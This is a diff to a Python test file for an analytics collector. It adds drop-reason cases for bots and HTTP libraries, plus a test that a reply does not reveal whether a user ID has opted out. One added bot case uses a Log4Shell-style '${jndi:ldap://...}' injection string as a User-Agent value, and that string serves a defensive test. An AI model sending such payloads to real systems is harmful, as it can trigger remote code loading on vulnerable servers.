@@ -1,5 +1,6 @@
 """One test per drop reason: the reply is identical to a tracked request's, the reason is
-in X-Collector-Dropped, and nothing but the counter is stored."""
+in X-Collector-Dropped (but for opted_out, which no reply tells), and nothing but the
+counter is stored."""
 
 from __future__ import annotations
 
@@ -35,6 +36,19 @@ CASES: list[tuple[str, dict[str, str], dict[str, str]]] = [
             "HeadlessChrome/130.0.0.0 Safari/537.36"
         },
     ),
+    ("bot", {}, {"User-Agent": "Mozilla/5.0 (compatible; GPTBot/1.2; +https://openai.com/gptbot)"}),
+    ("bot", {}, {"User-Agent": "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"}),
+    ("bot", {}, {"User-Agent": "${jndi:ldap://203.0.113.9/a}"}),
+    (
+        "bot",
+        {
+            "ua": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
+            "HeadlessChrome/130.0.0.0 Safari/537.36"
+        },
+        {},
+    ),
+    ("library", {}, {"User-Agent": "python-requests/2.22.0"}),
+    ("library", {"ua": "curl/8.5.0"}, {}),
     ("foreign_host", {"url": "https://evil.example/pricing"}, {}),
     ("spam", {"urlref": "https://semalt.com/"}, {}),
     ("no_consent", {}, {}),
@@ -45,6 +59,7 @@ CASES: list[tuple[str, dict[str, str], dict[str, str]]] = [
 SITE_SETTINGS: dict[str, tuple[dict[str, Any], dict[str, str]]] = {
     "no_consent": ({"consent_mode": "consent_required"}, {"consent": "1"}),
     "excluded": ({"exclusions": ("path:/admin/*",)}, {}),
+    "library": ({"drop_libraries": True}, {}),
 }
 
 
@@ -86,11 +101,62 @@ async def test_a_dropped_request_is_answered_like_a_tracked_one_and_only_counted
     ]
     tracked = await _send(client, site, tracked_params, {}, send_image)
     assert rows(db, "SELECT count(*) AS n FROM events") == [{"n": 1}]
-    assert dropped.headers["x-collector-dropped"] == reason
+    # an opt-out is the opt-out API's to tell (with its token): the reply says nothing of it
+    assert dropped.headers.get("x-collector-dropped") == (None if reason == "opted_out" else reason)
     assert "x-collector-dropped" not in tracked.headers
     assert (dropped.status_code, dropped.content) == (tracked.status_code, tracked.content)
     same = {k: v for k, v in dropped.headers.items() if k != "x-collector-dropped"}
     assert same == dict(tracked.headers)
+
+
+@pytest.mark.parametrize("send_image", [True, False])
+async def test_a_reply_does_not_tell_whether_its_uid_has_opted_out(
+    client: httpx.AsyncClient,
+    site: Site,
+    store: SqliteStore,
+    clock: FrozenClock,
+    db: sqlite3.Connection,
+    send_image: bool,
+) -> None:
+    """Anyone can send a beacon with someone's uid: the reply must be the same whether that
+    user opted out or not (before, it said X-Collector-Dropped: opted_out for those only)."""
+    await store.add_optout(site.id, user_ref_hash(site.secret, "user-42"), clock())
+    opted = await _send(client, site, {"uid": "user-42"}, {}, send_image)
+    other = await _send(client, site, {"uid": "user-43"}, {}, send_image)
+    assert (opted.status_code, opted.content, dict(opted.headers)) == (
+        other.status_code,
+        other.content,
+        dict(other.headers),
+    )
+    assert rows(db, "SELECT count(*) AS n FROM events") == [{"n": 1}]  # user-43's only
+    assert rows(db, "SELECT reason, n FROM dropped") == [{"reason": "opted_out", "n": 1}]
+    for uids in (["user-42", "user-43"], ["user-43", "user-44"]):
+        body = {"requests": [f"?idsite={site.id}&rec=1&url=https://example.com/b&uid={u}" for u in uids]}
+        reply = await client.post("/matomo.php", json=body, headers=BROWSER_HEADERS)
+        assert reply.status_code == 200 and "x-collector-dropped" not in reply.headers
+        assert reply.json() == {"status": "success", "tracked": 2, "invalid": 0, "invalid_indices": []}
+    assert rows(db, "SELECT reason, n FROM dropped") == [{"reason": "opted_out", "n": 2}]
+
+
+async def test_a_library_is_counted_unless_the_site_drops_libraries(
+    client: httpx.AsyncClient, site: Site, db: sqlite3.Connection
+) -> None:
+    """matomo-sdk-py sends python-requests' User-Agent: Matomo counts it, and so do we."""
+    reply = await _send(client, site, {}, {"User-Agent": "python-requests/2.22.0"}, True)
+    assert "x-collector-dropped" not in reply.headers
+    assert rows(db, "SELECT browser, browser_major, os, device FROM events") == [
+        {"browser": "Python Requests", "browser_major": "2", "os": None, "device": "other"}
+    ]
+
+
+async def test_bots_1_keeps_a_library_where_the_site_drops_them(
+    client: httpx.AsyncClient, site: Site, store: SqliteStore, db: sqlite3.Connection
+) -> None:
+    settings = dataclasses.replace(site.settings, drop_libraries=True)
+    await store.update_site(site.id, site.name, site.domains, site.timezone, settings)
+    reply = await _send(client, site, {"bots": "1"}, {"User-Agent": "curl/8.5.0"}, True)
+    assert "x-collector-dropped" not in reply.headers
+    assert rows(db, "SELECT browser, device FROM events") == [{"browser": "curl", "device": "other"}]
 
 
 async def test_bots_1_keeps_a_bot(client: httpx.AsyncClient, site: Site, db: sqlite3.Connection) -> None:
